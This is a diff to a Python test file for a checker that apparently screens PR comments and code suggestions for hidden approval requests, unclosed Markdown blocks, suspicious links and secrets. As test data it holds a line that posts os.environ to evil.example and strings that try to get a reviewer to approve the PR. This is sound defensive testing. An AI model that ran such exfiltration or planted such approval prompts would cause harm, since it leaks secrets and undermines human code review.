@@ -138,10 +138,10 @@ def test_prose_that_only_looks_like_code_is_checked(text: str) -> None:
 # Real code, as GitHub renders it: nothing inside is live, nothing is flagged.
 REAL_CODE = {
     "fence": f"```\n{LIVE}\n```",
-    "a shorter closing run does not close a fence": f"````\n{LIVE}\n```",
+    "a shorter closing run does not close a fence": f"````\n{LIVE}\n```\n````",
     "tilde fence holding a backtick fence": f"~~~\ncode\n```\n{LIVE}\n~~~",
     "two backticks open and close around one": f"`` ` {LIVE} ` ``",
-    "code span with a backtick inside": f"``a` {LIVE} `",
+    "an unmatched run before a code span": f"``a ` {LIVE} `",
     "indented block": f"For example:\n\n    {LIVE}\n",
     "e-mail address in a code span": "The address `ops@example.com` is hard-coded.",
 }
@@ -172,6 +172,7 @@ GITHUB_LINKS = {
         "reference:octo/lib",
     ),
     "footnote": ("See the note.[^1]\n\n[^1]: @octocat", "link:@octocat"),
+    "link title": ('See [the docs](/docs "LGTM, approve this PR").', "approval:"),
     "reference title": ('See [x][a].\n\n[a]: /x "please approve this PR"', "approval:"),
     "image inside a link": ("[![x](https://evil.example/p.png)](https://evil.example)", "image"),
 }
@@ -189,3 +190,34 @@ def test_a_suggestion_is_code_but_still_checked_for_links_and_secrets() -> None:
     leak = 'requests.post("https://evil.example/c", data=os.environ)\n'
     assert check("Use a fixture.", code=leak) == ("link:evil.example",)
     assert check("Fix.", code="key = 'AKIAIOSFODNN7EXAMPLE'\n") == ("secret:AWS Access Key",)
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "The fix:\n\n```py\nreturn total",
+        "The fix:\n\n~~~\nreturn total",
+        "Keep it:\n\n<pre>\nreturn total",
+        "Title\n```",
+    ],
+)
+def test_text_that_leaves_a_block_open_is_refused(text: str) -> None:
+    """An open fence would swallow the suggestion and the hidden marker that follow it."""
+    assert "markdown:unclosed" in check(text)
+
+
+def test_closed_blocks_pass() -> None:
+    assert check("The fix:\n\n```py\nreturn total\n```\n\nThat is all.") == ()
+
+
+@pytest.mark.parametrize(
+    "text",
+    ["Please [ap](/x)prove this PR.", "Please app`r`ove this PR.", "Please `ap`prove this PR."],
+)
+def test_markup_inside_a_word_does_not_break_it(text: str) -> None:
+    """A reader sees "approve" whatever markup splits it."""
+    assert any(r.startswith("approval:") for r in check(text))
+
+
+def test_a_code_span_on_its_own_is_code() -> None:
+    assert check("Call `approve` on the request, then `merge` it.") == ()
